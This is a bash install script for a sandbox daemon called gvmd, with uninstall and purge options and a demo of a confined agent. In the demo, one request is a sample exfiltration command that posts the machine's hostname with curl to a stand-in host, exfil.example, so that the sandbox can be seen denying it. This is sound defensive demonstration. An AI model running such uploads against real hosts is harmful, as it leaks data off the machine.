#!/usr/bin/env bash
# install.sh — build gvm, install it, start gvmd, and show that it runs.
#
# As root (from a user shell: sudo ./install.sh ...):
#   ./install.sh               build (release), install, start gvmd, run the demo agent
#   ./install.sh --no-demo     ...without the demo
#   ./install.sh --uninstall   stop gvmd and remove what install.sh installed
#   ./install.sh --uninstall --purge   ...and /var/lib/gvm (the audit log, keys, agents' data)
#
# Idempotent: run it again after `git pull` to upgrade. Where PID 1 is systemd, gvmd runs as
# gvmd.service; elsewhere (containers, CI VMs) it runs `gvmd --foreground` in the background
# and says so. Installs from the distribution what the build needs (libseccomp-dev, pkg-config,
# nftables). GVM_PREBUILT=DIR installs the gvmd and gvmctl found in DIR instead of building.
set -euo pipefail
cd "$(dirname "$0")"

PREFIX=${PREFIX:-/usr/local}
BIN=$PREFIX/bin
UNITS=/etc/systemd/system
LOG=/var/log/gvmd.log
say() { printf 'install.sh: %s\n' "$*"; }
die() { printf 'install.sh: %s\n' "$*" >&2; exit 1; }

if [ "$(id -u)" != 0 ]; then
    if command -v sudo >/dev/null; then die "run me as root: sudo $0 $*"; fi
    die "run me as root (su -c '$0 $*' or a root shell)"
fi
uninstall=0 purge=0 demo=1
for a in "$@"; do
    case "$a" in
        --uninstall) uninstall=1 ;;
        --purge) purge=1 ;;
        --no-demo) demo=0 ;;
        -h|--help) sed -n '2,12p' "$0" | sed 's/^# \{0,1\}//'; exit 0 ;;
        *) die "unknown option $a (see --help)" ;;
    esac
done

systemd_is_pid1() { [ -d /run/systemd/system ] && [ "$(cat /proc/1/comm 2>/dev/null)" = systemd ]; }

stop_gvmd() {
    if systemd_is_pid1 && systemctl list-unit-files gvmd.service >/dev/null 2>&1; then
        systemctl disable --now gvmd.service 2>/dev/null || true
    fi
    if [ -f /run/gvm/gvmd.pid ]; then
        pid=$(cat /run/gvm/gvmd.pid)
        if kill -0 "$pid" 2>/dev/null; then
            kill -TERM "$pid"
            for _ in $(seq 1 100); do kill -0 "$pid" 2>/dev/null || break; sleep 0.1; done
        fi
        rm -f /run/gvm/gvmd.pid
    fi
}

if [ "$uninstall" = 1 ]; then
    stop_gvmd
    rm -f "$BIN/gvmd" "$BIN/gvmctl" "$UNITS/gvmd.service" "$UNITS/gvm-agent@.service" /etc/gvm/profiles/demo.toml \
          /usr/lib/sysusers.d/gvm.conf /usr/lib/tmpfiles.d/gvm.conf
    systemd_is_pid1 && systemctl daemon-reload || true
    # gvm-admin goes when nobody was put in it.
    if getent group gvm-admin >/dev/null && [ -z "$(getent group gvm-admin | cut -d: -f4)" ]; then
        groupdel gvm-admin || true
    fi
    if [ "$purge" = 1 ]; then
        # The agents' users (gvm-<profile>, made by gvmd on first use) go with their data.
        for d in /var/lib/gvm/agents/*/; do
            [ -d "$d" ] || continue
            user=gvm-$(basename "$d")
            getent passwd "$user" >/dev/null && userdel "$user" 2>/dev/null || true
        done
        rm -rf /var/lib/gvm /run/gvm "$LOG"
        say "removed gvm and its data (/var/lib/gvm)"
    else
        say "removed gvm; kept /etc/gvm and /var/lib/gvm (the audit log) — add --purge to delete them"
    fi
    exit 0
fi

# 1. What the build and the sandbox need from the distribution.
missing=()
for p in libseccomp-dev pkg-config nftables iproute2 curl python3 passwd; do
    dpkg-query -W -f='${Status}' "$p" 2>/dev/null | grep -q "install ok installed" || missing+=("$p")
done
if [ ${#missing[@]} -gt 0 ]; then
    say "installing ${missing[*]}"
    apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq "${missing[@]}" >/dev/null
fi

# 2. Build as the invoking user (so target/ stays theirs), with their cargo.
if [ -n "${GVM_PREBUILT:-}" ]; then
    bindir=$GVM_PREBUILT
    say "installing the prebuilt binaries from $bindir"
else
    cargo_bin=$(command -v cargo || true)
    builder=()
    if [ -n "${SUDO_USER:-}" ] && [ "$SUDO_USER" != root ]; then
        home=$(getent passwd "$SUDO_USER" | cut -d: -f6)
        [ -z "$cargo_bin" ] && [ -x "$home/.cargo/bin/cargo" ] && cargo_bin=$home/.cargo/bin/cargo
        builder=(sudo -u "$SUDO_USER" -H)
    fi
    [ -n "$cargo_bin" ] || die "cargo not found: install Rust (https://rustup.rs) and run me again"
    say "building release binaries (first build takes a few minutes)"
    "${builder[@]}" "$cargo_bin" build --release --locked -p gvm-daemon -p gvmctl --bins
    bindir=target/release
fi

# 3. Files.
install -d -m 0755 "$BIN" /etc/gvm /etc/gvm/profiles /var/lib/gvm
install -m 0755 "$bindir/gvmd" "$bindir/gvmctl" "$BIN/"
install -D -m 0644 units/sysusers.d/gvm.conf /usr/lib/sysusers.d/gvm.conf
install -D -m 0644 units/tmpfiles.d/gvm.conf /usr/lib/tmpfiles.d/gvm.conf
sed "s|/usr/local/bin/|$BIN/|g" units/gvmd.service > "$UNITS/gvmd.service"
sed "s|/usr/local/bin/|$BIN/|g" units/gvm-agent@.service > "$UNITS/gvm-agent@.service"
[ -e /etc/gvm/profiles/demo.toml ] || install -m 0644 policies/demo.toml /etc/gvm/profiles/demo.toml
getent group gvm-admin >/dev/null || groupadd --system gvm-admin
say "installed gvmd and gvmctl into $BIN; members of gvm-admin may use gvmctl without sudo"

# 4. Start (or restart) gvmd.
if systemd_is_pid1; then
    systemctl daemon-reload
    systemd-sysusers /usr/lib/sysusers.d/gvm.conf || true
    systemd-tmpfiles --create /usr/lib/tmpfiles.d/gvm.conf || true
    systemctl enable gvmd.service >/dev/null 2>&1
    systemctl restart gvmd.service
    say "gvmd runs as gvmd.service (journalctl -u gvmd)"
else
    stop_gvmd
    install -d -m 0755 /run/gvm
    nohup "$BIN/gvmd" --foreground >>"$LOG" 2>&1 </dev/null &
    echo $! > /run/gvm/gvmd.pid
    say "PID 1 is not systemd here: gvmd runs in the foreground mode in the background (pid $(cat /run/gvm/gvmd.pid), log $LOG)"
fi
for _ in $(seq 1 100); do [ -S /run/gvm/gvmd.sock ] && break; sleep 0.1; done
[ -S /run/gvm/gvmd.sock ] || die "gvmd did not start: see ${LOG} or journalctl -u gvmd"

# 5. Show it working: gvmd, then the demo agent with one allowed and one denied request.
echo
"$BIN/gvmctl" status
[ "$demo" = 1 ] || exit 0
"$BIN/gvmctl" reload >/dev/null || true
site=$(mktemp -d)
mkdir -p "$site/allowed" && echo "hello from the allowed site" > "$site/allowed/hello.txt"
python3 -m http.server 8089 --bind 127.0.0.1 --directory "$site" >/dev/null 2>&1 &
server=$!
trap 'kill $server 2>/dev/null; rm -rf "$site"' EXIT
for _ in $(seq 1 50); do curl -s -o /dev/null http://127.0.0.1:8089/ && break; sleep 0.1; done
echo
say "the demo agent, sandboxed as profile demo, makes two requests:"
"$BIN/gvmctl" run --profile demo -- sh -c '
    printf "  allowed: "; curl -s http://127.0.0.1:8089/allowed/hello.txt
    printf "  denied:  "; curl -s -o /dev/null -w "HTTP %{http_code} (the secret never left the machine)\n" -d "key=$(cat /etc/hostname)" http://exfil.example/upload
'
echo
"$BIN/gvmctl" audit log --profile demo --limit 5
echo
say "done. Next: gvmctl --help, docs/policy.md, and your own profile in /etc/gvm/profiles/"
